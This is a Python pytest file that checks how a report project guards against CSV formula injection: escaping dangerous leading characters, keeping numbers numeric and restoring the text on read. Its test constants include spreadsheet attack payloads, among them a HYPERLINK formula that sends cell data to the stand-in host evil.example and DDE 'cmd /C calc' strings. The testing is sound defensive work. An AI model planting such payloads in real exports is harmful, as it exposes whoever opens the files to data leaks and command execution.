"""Formula injection (issue 17 §7): every CSV the project writes (the processed tables,
problems.csv, the aggregates) holds a text cell that a spreadsheet would run as a formula
(=, +, -, @, tab or CR first, also after leading spaces) with a quote in front, as the OWASP
guidance on CSV injection says; numbers stay numbers (a negative gap, a negative count);
and every reader of those CSVs takes the quote off again, so the report shows the text
as the partner typed it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_clean import CS_HEADER, IV_HEADER, project

from ktreport.aggregate import aggregate_tables, load_processed
from ktreport.chapters.context import _read_csv
from ktreport.core.io import read_aggregates, write_aggregates
from ktreport.core.safe import neutralise, restore
from ktreport.ingest.tables import write_processed
from ktreport.ingest.validate import validate_raw

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click for details")'
CALC = "=cmd|' /C calc'!A0"
# What the hostile partner typed, each value in a free-text cell of its own.
HOSTILE = {
    "programme": HYPERLINK,
    "provider": "+SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)",
    "quote": CALC,
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_project(tmp_path: Path) -> Path:
    return project(
        tmp_path,
        {
            "case_studies/UNIBO.csv": CS_HEADER
            + f'\nUNIBO-C01,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
            f'"{HOSTILE["provider"]}",kt_association,IT,online,-,kt_professionals,yes,'
            f'negotiation,yes,,"{HOSTILE["notes"]}"\n'
            'UNIBO-C02,"  -2+3",Netval,university,IT,online,12,kt_professionals,no,'
            "communication,no,,\n",
            "interviews/UNIBO.csv": IV_HEADER
            + "\nUNIBO-I01,kt expert,IT,31/03/2023,8,f,communication,negotiation,"
            f'communication,workshops,"{CALC}",yes,A Person,a@example.org,Org,+39 000\n'
            "UNIBO-I02,kt expert,IT,31/03/2023,3,f,negotiation,communication,,workshops,"
            '"- a quote that starts with a dash",yes,B Person,b@example.org,Org,+39 001\n',
            "ratings/UNIBO.csv": "interview_id,skill,importance,proficiency\n"
            "UNIBO-I01,negotiation,5,2\nUNIBO-I02,communication,2,4\n",
        },
    )


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> dict[str, Path]:
    """The processed tables, problems.csv and the aggregates of the hostile project."""
    root = tmp_path_factory.mktemp("hostile")
    raw = _hostile_project(root)
    result = validate_raw(raw, root=root)
    processed = root / "data" / "processed"
    # A problem whose value and message carry a formula reaches problems.csv too.
    write_processed(result.tables, processed, result.problems)
    aggregates = processed / "aggregates"
    write_aggregates(aggregate_tables(load_processed(processed)), aggregates)
    return {
        "processed": processed,
        "aggregates": aggregates,
        "problems": processed / "problems.csv",
    }


def _csvs(built: dict[str, Path]) -> list[Path]:
    return sorted(built["processed"].glob("*.csv")) + sorted(built["aggregates"].glob("*.csv"))


def _cells(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    return [cell for row in rows for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_text_cell_of_any_csv_written_starts_a_formula(built):
    quoted = 0
    for path in _csvs(built):
        for cell in _cells(path):
            if cell[:1] in DANGEROUS or cell.lstrip()[:1] in DANGEROUS:
                assert _is_number(cell), (path.name, cell)  # -2.0000, never text
            quoted += cell.startswith("'")
    assert quoted >= 6  # the hostile cells were written (quoted), not dropped


def test_the_hostile_cells_are_written_quoted_where_people_open_them(built):
    processed = built["processed"]
    assert ["'" + HYPERLINK, "'" + HOSTILE["provider"], "'" + HOSTILE["notes"]] == [
        pd.read_csv(processed / "case_studies.csv", dtype=str)[c].iloc[0]
        for c in ("programme", "provider", "notes")
    ]
    listing = pd.read_csv(built["aggregates"] / "case_study_list.csv", dtype=str)
    assert "'" + HYPERLINK in set(listing["programme"])
    assert "'-2+3" in set(listing["programme"])  # typed "  -2+3": ingest trims it
    quotes = set(pd.read_csv(built["aggregates"] / "quotes.csv", dtype=str)["quote"])
    assert "'" + CALC in quotes


def test_problems_csv_quotes_a_formula_the_partner_typed(built):
    problems = pd.read_csv(built["problems"], dtype=str, keep_default_na=False)
    assert "'-" in set(problems["value"])  # duration_hours "-": the value typed, quoted
    for column in ("value", "message", "hint"):
        assert all(v.lstrip()[:1] not in DANGEROUS for v in problems[column]), column


def test_numbers_stay_numbers_negative_ones_included(built):
    path = built["aggregates"] / "ratings_by_skill.csv"
    ratings = pd.read_csv(path)
    for column in ("mean_discrepancy", "mwds"):
        assert pd.api.types.is_float_dtype(ratings[column])
        assert (ratings[column] < 0).any()  # a negative difference is -2.0000, not '-2.0000
    assert "'-" not in path.read_text(encoding="utf-8")
    cases = pd.read_csv(built["processed"] / "case_studies.csv")
    assert pd.api.types.is_numeric_dtype(cases["duration_hours"])
    ratings = pd.read_csv(built["processed"] / "ratings.csv")
    assert pd.api.types.is_integer_dtype(ratings["importance"])


def test_the_readers_give_the_text_as_typed(built):
    """The aggregation, the figures and the chapters read the text the partner typed."""
    tables = load_processed(built["processed"])
    assert set(tables["case_studies"]["programme"]) == {HYPERLINK, "-2+3"}
    assert set(tables["case_studies"]["provider"]) == {HOSTILE["provider"], "Netval"}
    aggregates = read_aggregates(built["aggregates"])
    assert HYPERLINK in set(aggregates["case_study_list"]["programme"])
    assert CALC in set(aggregates["quotes"]["quote"])
    assert "- a quote that starts with a dash" in set(aggregates["quotes"]["quote"])
    chapters = _read_csv(built["aggregates"] / "quotes.csv")
    assert CALC in set(chapters["quote"])
    ratings = _read_csv(built["aggregates"] / "ratings_by_skill.csv")
    assert pd.api.types.is_float_dtype(ratings["mwds"])


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("   =1", "'   =1"),
        ("'=1", "''=1"),  # a quote the partner typed stays theirs
        ("'text", "'text"),
        ("a=1", "a=1"),
        ("", ""),
        ("R&D contracts", "R&D contracts"),
    ],
)
def test_neutralise_quotes_only_what_a_spreadsheet_would_run(typed, written):
    assert neutralise(typed) == written
    assert restore(written) == typed


# Fixed examples, no deadline: the suite must not depend on the machine's speed.
@settings(derandomize=True, deadline=None, max_examples=300)
@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    cell = neutralise(text)
    assert restore(cell) == text
    assert cell[:1] not in DANGEROUS and cell.lstrip()[:1] not in DANGEROUS
